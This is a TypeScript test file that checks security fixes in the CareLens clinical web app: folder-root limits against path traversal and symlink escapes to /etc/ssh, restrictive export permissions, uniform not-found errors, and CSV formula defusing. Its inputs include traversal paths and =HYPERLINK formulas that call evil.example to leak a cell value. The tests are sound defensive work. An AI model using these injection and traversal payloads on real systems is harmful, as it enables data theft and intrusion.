/**
 * Red-team findings on the running web host, folders and files part: imports and exports only in
 * the home folder and the roots an admin allowed (finding 8), export folders 0700 and files 0600
 * (finding 7), ml:predictFile the same answer for missing, unreadable and outside (finding 9),
 * care-plan CSV cells defused like every export's (finding 6), and push events with ids, not
 * folders or patient names (finding 4).
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createTestApp, SHARED_DATA, tempDir } from '../app/testing';
import type { App } from '../app/createApp';
import { startWebHost, type WebHost } from './webHost';
import { TestBrowser } from './testWebClient';
import { runCli } from '../../cli/testing';

const ADMIN = { username: 'admin', displayName: 'Admin', password: 'correct horse battery staple' };
const CLINICIAN = { username: 'cleo', displayName: 'Cleo Clinician', role: 'clinician', password: 'cleo reads the charts' };
const IMAGES = path.join(SHARED_DATA, 'images', 'breastmnist', 'val', '0_malignant');
let host: WebHost | null = null;
let app: (App & { dataDir: string }) | null = null;
afterEach(async () => {
  await host?.close();
  await app?.close();
  host = null;
  app = null;
});

async function start() {
  app = createTestApp({ onDisk: true });
  const trust = app.features.trust.service;
  host = await startWebHost({ dispatch: app.dispatch, events: app.core.events, logger: app.core.logger, rendererDir: null, audience: (s, n) => trust.mayReceiveEvents(s, n) });
  const admin = await TestBrowser.open(host);
  expect((await admin.call('auth:setup', ADMIN)).ok).toBe(true);
  expect((await admin.call('auth:createUser', CLINICIAN)).ok).toBe(true);
  const clinician = await TestBrowser.open(host);
  expect((await clinician.call('auth:login', { username: CLINICIAN.username, password: CLINICIAN.password })).ok).toBe(true);
  return { h: host, admin, clinician };
}

describe('folder roots (finding 8)', () => {
  it('a clinician cannot import from /etc/ssh, through .., or through a link out of a root; nothing of it is reported', async () => {
    const { admin, clinician } = await start();
    const outside = await clinician.call('imaging:importStart', { paths: ['/etc/ssh'] });
    expect(outside).toMatchObject({ ok: false, error: { code: 'FORBIDDEN', issues: [{ path: 'paths.0' }] } });
    expect(outside.error!.message).toContain('carelens folders roots add');
    expect(JSON.stringify(outside)).not.toMatch(/sshd_config|ssh_host/);

    const root = tempDir();
    fs.symlinkSync('/etc', path.join(root, 'escape'));
    expect(await clinician.call('system:addFolderRoot', { folder: root })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await admin.call('system:addFolderRoot', { folder: root })).toMatchObject({ ok: true, value: { roots: [fs.realpathSync(root)] } });
    expect(await clinician.call('imaging:importStart', { paths: [path.join(root, '..', '..', 'etc', 'ssh')] })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await clinician.call('imaging:importStart', { paths: [path.join(root, 'escape', 'ssh')] })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect(await admin.call('system:addFolderRoot', { folder: '/' })).toMatchObject({ ok: false, error: { code: 'VALIDATION' } });
    // Nothing was started, so no report names any of those files.
    expect(await clinician.call('imaging:imports', { limit: 10 })).toMatchObject({ ok: true, value: [] });
  });

  it('an allowed root imports, and its progress events carry counts, never the folder', async () => {
    const { admin, clinician } = await start();
    expect((await admin.call('system:addFolderRoot', { folder: IMAGES })).ok).toBe(true);
    const stream = clinician.listen();
    await stream.connected;
    const summary = await clinician.call('imaging:import', { paths: [IMAGES] });
    expect(summary).toMatchObject({ ok: true, value: { imported: 21 } });
    await new Promise((r) => setTimeout(r, 50));
    stream.close();
    expect(stream.text()).toContain('event: imaging:progress');
    expect(stream.text()).not.toContain(IMAGES);
    expect(stream.text()).not.toContain('"paths"');
    // The status channel (clinician) still tells the page which folders the import read.
    const importId = (summary.value as { importId: string }).importId;
    expect(await clinician.call('imaging:importStatus', { importId })).toMatchObject({ ok: true, value: { paths: [IMAGES] } });
  });

  it('the CLI (the OS user, system actor) is not limited, and manages the roots', async () => {
    app = createTestApp({ onDisk: true });
    const dataDir = app.dataDir;
    await app.close();
    app = null;
    const root = tempDir();
    const added = await runCli(['folders', 'roots', 'add', root, '--data-dir', dataDir, '--json']);
    expect(added.code, added.err).toBe(0);
    expect(JSON.parse(added.out)).toMatchObject({ roots: [fs.realpathSync(root)] });
    const listed = await runCli(['folders', 'roots', 'list', '--data-dir', dataDir]);
    expect(listed.out).toContain(fs.realpathSync(root));
    expect((await runCli(['folders', 'roots', 'remove', root, '--data-dir', dataDir, '--json'])).out).toContain('"roots": []');
    expect((await runCli(['folders', 'roots', 'remove', root, '--data-dir', dataDir])).code).toBe(1);
    expect((await runCli(['folders', 'nope', '--data-dir', dataDir])).code).toBe(2);
    // The system actor imports from anywhere (no root for the shared data).
    const imported = await runCli(['import', IMAGES, '--data-dir', dataDir, '--json']);
    expect(imported.code, imported.err).toBe(0);
  });
});

describe('exports (finding 7) and predictFile (finding 9)', () => {
  it('writes a chosen export folder 0700 and its files 0600, and only inside the allowed folders', async () => {
    const { admin, clinician } = await start();
    const created = await clinician.call('patients:create', { name: 'Ada Lovelace', mrn: 'A1' });
    const patientId = (created.value as { id: string }).id;
    const root = tempDir();
    expect(await clinician.call('reports:export', { patients: [patientId], format: 'csv', outDir: path.join(root, 'out') })).toMatchObject({ ok: false, error: { code: 'FORBIDDEN' } });
    expect((await admin.call('system:addFolderRoot', { folder: root })).ok).toBe(true);
    const stream = clinician.listen();
    await stream.connected;
    const outDir = path.join(root, 'exports', 'today');
    const started = await clinician.call('reports:export', { patients: [patientId], format: 'csv', outDir });
    expect(started.ok).toBe(true);
    const jobId = (started.value as { id: string }).id;
    let job = (await clinician.call('reports:job', { jobId })).value as { state: string; files: { path: string }[] };
    for (let i = 0; i < 200 && job.state === 'running'; i++) {
      await new Promise((r) => setTimeout(r, 25));
      job = (await clinician.call('reports:job', { jobId })).value as typeof job;
    }
    stream.close();
    expect(job.state).toBe('done');
    expect(fs.statSync(outDir).mode & 0o777).toBe(0o700);
    expect(fs.statSync(path.join(root, 'exports')).mode & 0o777).toBe(0o700);
    expect(job.files.length).toBeGreaterThan(0);
    for (const f of job.files) expect(fs.statSync(f.path).mode & 0o777, f.path).toBe(0o600);
    // The progress events name the patient by id only.
    expect(stream.text()).toContain('event: reports:progress');
    expect(stream.text()).toContain(patientId);
    expect(stream.text()).not.toContain('Ada');
  });

  it('ml:predictFile answers missing, a folder and outside the roots with the same words', async () => {
    const { clinician } = await start();
    const root = tempDir();
    const messages = [];
    for (const file of ['/etc/hostname', '/etc/no-such-file.png', path.join(root, 'missing.png'), root, '/root/no-such-file.png']) {
      const r = await clinician.call('ml:predictFile', { path: file });
      expect(r, file).toMatchObject({ ok: false, error: { code: 'NOT_FOUND' } });
      messages.push(r.error!.message.replace(path.resolve(file), '<file>'));
    }
    expect(new Set(messages).size).toBe(1);
  });
});

describe('care-plan CSV (finding 6)', () => {
  it('defuses =HYPERLINK in an MRN and a note, and the file still imports back', async () => {
    const { admin } = await start();
    const evilMrn = '=HYPERLINK("http://evil.example/","x")';
    const evilNote = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
    expect((await admin.call('patients:create', { name: 'Eve Formula', mrn: evilMrn })).ok).toBe(true);
    expect((await admin.call('careplans:loadDemo')).ok).toBe(true);
    const csvIn = `patient,plan,assigned_at,outcome_grade,improved,outcome_note\n"${evilMrn.replace(/"/g, '""')}",demo-asthma-ics,2025-06-01,4,yes,"${evilNote.replace(/"/g, '""')}"\n`;
    expect(await admin.call('careplans:importAssignments', { csv: csvIn })).toMatchObject({ ok: true, value: { created: 1 } });
    const out = ((await admin.call('careplans:exportAssignments')).value as { csv: string }).csv;
    const line = out.split('\n')[1]!;
    expect(line).toContain(`"'${evilMrn.replace(/"/g, '""')}"`);
    expect(line).toContain(`"'${evilNote.replace(/"/g, '""')}"`);
    expect(out).not.toMatch(/(^|,)"?=/m);
    // CareLens reads its own file back: the apostrophes come off, the same row is updated.
    expect(await admin.call('careplans:importAssignments', { csv: out })).toMatchObject({ ok: true, value: { created: 0, updated: 1 } });
    const plans = ((await admin.call('careplans:exportPlans')).value as { csv: string }).csv;
    expect(plans).not.toMatch(/(^|,)"?[=+@-]/m);
  });
});
